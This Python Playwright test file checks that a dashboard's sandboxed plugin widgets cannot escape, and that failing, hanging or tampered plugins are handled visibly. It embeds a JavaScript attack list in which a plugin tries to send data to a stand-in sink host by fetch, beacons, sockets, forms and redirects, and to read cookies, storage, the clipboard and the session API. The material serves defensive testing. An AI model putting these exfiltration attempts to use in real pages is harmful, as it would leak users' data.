"""Widgets of others in a real browser: what they may do, what they may not, and what happens when they fail."""

from __future__ import annotations

import re
import shutil
import socket
import threading
import urllib.request
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import pytest
from playwright.sync_api import Browser, FrameLocator, Page, expect
from tests.unit.dashboards.plugins.authored import write_plugin

from .conftest import Complaints, OpenPage, Server, free_port
from .layout import violations
from .test_dashboard_editor import configure
from .test_dashboards import HOSTILE, Json, edit, frame, kept, make, widget

pytestmark = pytest.mark.e2e

HONEYCOMB = Path(__file__).parents[2] / "examples" / "plugins" / "honeycomb"
SHOPS = "\n".join(f'shop_load{{shop="{name}"}} {value}' for name, value in (("north", 20), ("south", 90)))
SHOWS = "vedette.define({ draw({ root, data }) { root.textContent = `%s: ${data.series.length} series`; } });\n"

# What a plugin would do to get at a person, each with how it ends: an error, an event, or nothing at all.
ATTACKS = """
const sink = "SINK";
const attacks = {
  fetch: () => fetch(sink + "/fetch"),
  own: () => fetch("/api/v1/session").catch(() => fetch(location.origin + "/api/v1/session")),
  server: () => fetch("SERVER/api/v1/session"),
  request: () => new Promise((done, failed) => {
    const request = new XMLHttpRequest();
    request.open("GET", sink + "/request");
    Object.assign(request, { onload: done, onerror: failed });
    request.send();
  }),
  beacon: () => { navigator.sendBeacon(sink + "/beacon", "x"); return silence(); },
  connection: () => {
    const hint = Object.assign(document.createElement("link"), { rel: "preconnect", href: sink });
    document.head.append(hint);
    return silence();
  },
  prefetch: () => {
    const hint = Object.assign(document.createElement("link"), { rel: "prefetch", href: sink + "/prefetch" });
    document.head.append(hint);
    return silence();
  },
  socket: () => new Promise((done, failed) => {
    const socket = new WebSocket(sink.replace("http", "ws") + "/socket");
    Object.assign(socket, { onopen: done, onerror: failed });
  }),
  events: () => new Promise((done, failed) => {
    Object.assign(new EventSource(sink + "/events"), { onopen: done, onerror: failed });
  }),
  picture: () => new Promise((done, failed) => {
    Object.assign(new Image(), { onload: done, onerror: failed, src: sink + "/picture" });
  }),
  frame: () => new Promise((done, failed) => {
    const inner = document.createElement("iframe");
    inner.src = sink + "/frame";
    addEventListener("securitypolicyviolation", failed, { once: true });
    document.body.append(inner);
  }),
  script: () => import(sink + "/script.js"),
  worker: () => new Promise((done, failed) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    Object.assign(worker, { onmessage: done, onerror: failed });
  }),
  text: () => (0, eval)("1"),
  markup: () => { document.createElement("p").innerHTML = "<b>x</b>"; },
  parent: () => parent.document.title,
  top: () => { top.location.href = sink + "/top"; },
  cookie: () => document.cookie,
  storage: () => localStorage.length,
  database: () => indexedDB.open("x"),
  popup: () => { if (open(sink + "/popup") === null) throw new Error("no"); },
  form: () => {
    const form = Object.assign(document.createElement("form"), { action: sink + "/form", method: "post" });
    document.body.append(form);
    form.submit();
    return silence();
  },
  peer: () => new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] }),
  clipboard: () => navigator.clipboard.readText(),
  location: () => new Promise((done, failed) => navigator.geolocation.getCurrentPosition(done, failed)),
};
// what is not told of, the other end of the line would know
const silence = () => new Promise((_, failed) => setTimeout(failed, 300));
const outcomes = [];
for (const [name, attack] of Object.entries(attacks)) {
  try {
    await attack();
    outcomes.push(`${name} WORKED`);
  } catch {
    outcomes.push(`${name} stopped`);
  }
}
vedette.define({
  draw({ root }) {
    root.replaceChildren(...outcomes.map((one) => Object.assign(document.createElement("p"), { textContent: one })));
  },
});
"""


class Sink:
    """Another server, which counts who comes."""

    def __init__(self) -> None:
        self.visits: list[bytes] = []
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._listener.getsockname()[1]}"
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        with suppress(OSError):
            while True:
                visitor, _ = self._listener.accept()
                visitor.settimeout(2)
                self.visits.append(b"somebody")
                with visitor, suppress(OSError):
                    self.visits.append(visitor.recv(1000))
                    visitor.sendall(b"HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-length: 0\r\n\r\n")

    def close(self) -> None:
        """Nobody is let in any more."""
        self._listener.close()


@pytest.fixture
def sink() -> Iterator[Sink]:
    """A place that plugins would like to tell things to."""
    it = Sink()
    yield it
    it.close()


@pytest.fixture
def plugins(tmp_path: Path) -> Path:
    """The folder of plugins of the server of the test."""
    return tmp_path / "data" / "plugins"


@pytest.fixture
def plugged(browser: Browser, tmp_path: Path) -> Iterator[Server]:
    """A server that looks at its plugins all the time."""
    running = Server(tmp_path / "data", free_port(), ("--no-auth", "--set", "dashboards.plugins_interval=200ms"))
    running.start()
    yield running
    running.stop()


@pytest.fixture
def developing(browser: Browser, tmp_path: Path) -> Iterator[Server]:
    """The same, for who writes plugins."""
    options = ("--set", "dashboards.plugins_interval=200ms", "--set", "dashboards.plugins_development=true")
    running = Server(tmp_path / "data", free_port(), ("--no-auth", *options))
    running.start()
    yield running
    running.stop()


def of(name: str, at: str = "w", **more: object) -> Json:
    """A widget that is of a plugin."""
    return widget(at, 0 if at == "w" else 6, 0, 6, 6, kind=f"plugin:{name}", **more)


def listed(server: Server) -> str:
    """What the server says of its plugins."""
    with urllib.request.urlopen(f"{server.url}/api/v1/plugins", timeout=10) as answer:
        return str(answer.read())


def inside(page: Page, name: str = "w") -> FrameLocator:
    """The document of a plugin's widget."""
    return frame(page, name).frame_locator("iframe")


def test_nothing_gets_out(plugged: Server, plugins: Path, sink: Sink, open_page: OpenPage) -> None:
    """Network, cookies, storage, the page around it and other pages: all stopped, the last of them shown."""
    write_plugin(plugins, "evil", ATTACKS.replace("SINK", sink.url).replace("SERVER", plugged.url))
    document = make(plugged, "Evil", widgets=[of("evil")])
    page = open_page(f"{plugged.url}/d/{document}")
    expect(inside(page).get_by_text("location stopped")).to_be_visible()
    assert [line for line in inside(page).locator("p").all_inner_texts() if not line.endswith(" stopped")] == []
    assert page.url.startswith(plugged.url)
    assert len(page.context.pages) == 1
    expect(frame(page, "w").get_by_text("Stopped by the sandbox: connect-src")).to_be_visible()
    assert sink.visits == []


def test_its_document_by_itself_has_no_origin_either(plugged: Server, plugins: Path, open_page: OpenPage) -> None:
    """Who follows the address of the frame gives the plugin nothing of the server's."""
    write_plugin(plugins, "evil", ATTACKS.replace("SINK", "http://127.0.0.1:9").replace("SERVER", plugged.url))
    page = open_page(f"{plugged.url}/d/{make(plugged, 'Evil', widgets=[of('evil')])}")
    address = frame(page, "w").locator("iframe").get_attribute("src")
    page.goto(f"{plugged.url}{address}")
    assert page.evaluate("origin") == "null"
    with pytest.raises(Exception, match="sandbox"):
        page.evaluate("document.cookie")
    with pytest.raises(Exception, match="sandbox"):
        page.evaluate("localStorage.length")


def test_a_document_that_leaves_is_given_up(plugged: Server, plugins: Path, sink: Sink, open_page: OpenPage) -> None:
    """A plugin cannot take what it knows elsewhere by going there itself."""
    code = f"vedette.define({{ draw() {{ location.href = '{sink.url}/?' + 'secret'; }} }});\n"
    write_plugin(plugins, "wanderer", code)
    page = open_page(f"{plugged.url}/d/{make(plugged, 'Leaves', widgets=[of('wanderer')])}")
    expect(frame(page, "w").get_by_text("It has left its own document.")).to_be_visible()
    assert sink.visits == []


def test_what_it_throws_is_a_state_of_its_panel(plugged: Server, plugins: Path, open_page: OpenPage) -> None:
    """The words of the error are shown as words, other widgets go on, and it can be started again."""
    write_plugin(plugins, "thrower", f"vedette.define({{ draw() {{ throw new Error('{HOSTILE}'); }} }});\n")
    document = make(plugged, "Throws", widgets=[of("thrower"), widget("load", 6, 0, 6, 6)])
    page = open_page(f"{plugged.url}/d/{document}")
    expect(frame(page, "w").get_by_role("alert")).to_contain_text(f"The plugin Thrower failedError: {HOSTILE}")
    expect(frame(page, "load").locator("canvas").first).to_be_visible()
    assert page.evaluate("window.hit") is None
    assert violations(page) == []
    before = listed(plugged)
    write_plugin(plugins, "thrower", SHOWS % "mended")
    while listed(plugged) == before:
        page.wait_for_timeout(50)
    frame(page, "w").get_by_role("button", name="Start it again").click()
    expect(inside(page).get_by_text("mended: 1 series")).to_be_visible()


def test_one_that_hangs_is_noticed_and_holds_up_nobody(plugged: Server, plugins: Path, open_page: OpenPage) -> None:
    """While it runs in a circle the page answers; after some seconds the panel says so and starts it again."""
    code = "vedette.define({ draw({ root, options }) { root.textContent = 'here'; if (options.hang) for (;;); } });\n"
    option = {"type": "boolean", "title": "Hang", "default": False}
    write_plugin(plugins, "hanger", code, schema={"type": "object", "properties": {"hang": option}})
    document = make(plugged, "Hangs", widgets=[of("hanger")])
    page = open_page(f"{plugged.url}/d/{document}")
    expect(inside(page).get_by_text("here")).to_be_visible()
    drawer = configure(page, "w")
    drawer.get_by_role("switch", name="Hang").click()
    expect(frame(page, "w").get_by_text("It does not answer any more.")).to_be_visible()
    drawer.get_by_role("switch", name="Hang").click()
    frame(page, "w").get_by_role("button", name="Start it again").click()
    expect(inside(page).get_by_text("here")).to_be_visible()


def test_a_changed_file_is_refused_where_everybody_sees_it(plugged: Server, plugins: Path, open_page: OpenPage) -> None:
    """In the library and in each widget of the plugin, with both hashes."""
    folder = write_plugin(plugins, "changed", SHOWS % "changed")
    (folder / "widget.js").write_text(SHOWS % "behind your back")
    document = make(plugged, "Changed", widgets=[of("changed"), of("missing", "m")])
    page = open_page(f"{plugged.url}/d/{document}")
    expect(frame(page, "w").get_by_role("alert")).to_contain_text(
        re.compile("The plugin changed is refusedwidget.js: its SHA-256 is [0-9a-f]{12}…, the manifest pins")
    )
    expect(frame(page, "m").get_by_role("alert")).to_contain_text("The plugin missing is missing")
    edit(page)
    refused = page.get_by_role("region", name="Plugins that cannot be used")
    expect(refused).to_contain_text("changedwidget.js: its SHA-256 is")
    assert violations(page) == []


def test_in_development_pages_follow_the_files(developing: Server, plugins: Path, open_page: OpenPage) -> None:
    """A saved file is drawn without a reload and without being pinned; so is another option in the form."""
    folder = write_plugin(plugins, "live", SHOWS % "first")
    document = make(developing, "Follows", widgets=[of("live")])
    page = open_page(f"{developing.url}/d/{document}")
    expect(inside(page).get_by_text("first: 1 series")).to_be_visible()
    page.evaluate("window.same = true")
    (folder / "widget.js").write_text(SHOWS % "second")
    expect(inside(page).get_by_text("second: 1 series")).to_be_visible()
    (folder / "widget.js").write_text("draw();\n")
    expect(frame(page, "w").get_by_text("nothing calls vedette.define")).to_be_visible()
    (folder / "widget.js").write_text(SHOWS % "third")
    expect(inside(page).get_by_text("third: 1 series")).to_be_visible()
    assert page.evaluate("window.same") is True


def comb(page: Page, name: str) -> FrameLocator:
    """The picture of the honeycomb."""
    return frame(page, name).frame_locator("iframe")


def test_from_the_library_to_a_saved_widget(
    plugged: Server, plugins: Path, open_page: OpenPage, complaints: Complaints
) -> None:
    """Found, added, asked, configured by its own form, checked by itself, saved, and there again after a reload."""
    plugins.mkdir(parents=True, exist_ok=True)
    shutil.copytree(HONEYCOMB, plugins / "honeycomb")
    plugged.push(SHOPS)
    page = open_page(f"{plugged.url}/d/{make(plugged, 'Comb', widgets=[])}")
    page.get_by_role("button", name="Edit", exact=True).click()
    library = page.get_by_role("complementary", name="Widget library")
    page.get_by_label("Find a widget").fill("honey")
    expect(library.frame_locator("iframe").get_by_role("button")).to_have_count(12)
    library.get_by_role("button", name="Honeycomb").press("Enter")
    name = page.locator("[data-frame]").get_attribute("data-frame") or ""
    drawer = configure(page, name)
    drawer.get_by_role("button", name="Query", exact=True).last.click()
    card = drawer.get_by_role("region", name="Query A")
    card.get_by_role("radio", name="Code").click()
    card.get_by_role("textbox", name="Query A").click()
    page.keyboard.insert_text("shop_load")
    page.keyboard.press("Control+Enter")
    expect(comb(page, name).get_by_role("button", name="north: 20.0")).to_be_visible()
    drawer.get_by_label("High", exact=True).fill("-1")
    expect(frame(page, name).get_by_role("alert")).to_contain_text("Low must be less than high.")
    drawer.get_by_label("High", exact=True).fill("50")
    expect(frame(page, name).get_by_role("alert")).to_have_count(0)
    drawer.get_by_role("textbox", name="Names to leave out").fill("sou")
    expect(comb(page, name).get_by_role("button")).to_have_count(1)
    assert violations(page) == []
    page.keyboard.press("Control+s")
    expect(page.get_by_role("button", name=re.compile("^Save as v3"))).to_be_visible()
    page.goto(page.url)
    expect(comb(page, name).get_by_role("button")).to_have_count(1)
    found = page.url.rpartition("/d/")[2].partition("?")[0]
    saved = kept(plugged, found)["spec"]["widgets"][0]
    assert (saved["kind"], saved["options"]) == ("plugin:honeycomb", {"high": 50, "hide": ["sou"]})
    assert complaints == []


@pytest.mark.parametrize(("width", "theme"), [(1440, "dark"), (390, "light")])
def test_clicks_lead_on_and_values_are_text(
    plugged: Server, plugins: Path, open_page: OpenPage, complaints: Complaints, width: int, theme: str
) -> None:
    """A click filters the dashboard or offers links, by finger and by key; a label value is never markup."""
    plugins.mkdir(parents=True, exist_ok=True)
    shutil.copytree(HONEYCOMB, plugins / "honeycomb")
    plugged.push(SHOPS + f'\nshop_load{{shop="{HOSTILE}"}} 50')
    asks = {"queries": [{"ref": "A", "text": "shop_load"}]}
    links = {"links": [{"title": "Elsewhere", "url": "/explore?q=${__labels.shop}"}]}
    widgets = [
        of("honeycomb", options={"click": "filter", "label": "shop"}, **asks),
        of("honeycomb", "m", **asks, **links),
    ]
    document = make(plugged, f"Clicks {width}", variables=[{"name": "f", "kind": "adhoc"}], widgets=widgets)
    page = open_page(f"{plugged.url}/d/{document}", width=width, height=844, theme=theme)
    expect(comb(page, "w").get_by_role("button", name=f"{HOSTILE}: 50.0")).to_be_visible()
    assert comb(page, "w").locator("img").count() == 0
    assert comb(page, "w").locator("html").get_attribute("data-theme") == theme
    comb(page, "m").get_by_role("button", name="north: 20.0").press("Enter")
    expect(frame(page, "m").get_by_role("link", name="Elsewhere")).to_have_attribute("href", re.compile("q=north"))
    assert violations(page) == []
    comb(page, "w").get_by_role("button", name="south: 90.0").click()
    expect(page.get_by_role("button", name="Remove filter shop south")).to_be_visible()
    expect(comb(page, "m").get_by_role("button", name="north: 20.0")).to_have_count(0)
    assert complaints == []


def test_a_drag_goes_over_it(plugged: Server, plugins: Path, open_page: OpenPage) -> None:
    """While the dashboard is edited a plugin takes no pointer: its widget is selected, moved and sized as others."""
    write_plugin(plugins, "plain", SHOWS % "plain")
    page = open_page(f"{plugged.url}/d/{make(plugged, 'Drag', widgets=[of('plain')])}")
    expect(inside(page).get_by_text("plain: 1 series")).to_be_visible()
    edit(page)
    box = frame(page, "w").locator("iframe").bounding_box()
    assert box is not None
    page.mouse.click(box["x"] + 50, box["y"] + 50)
    expect(frame(page, "w")).to_have_attribute("data-selected", "")
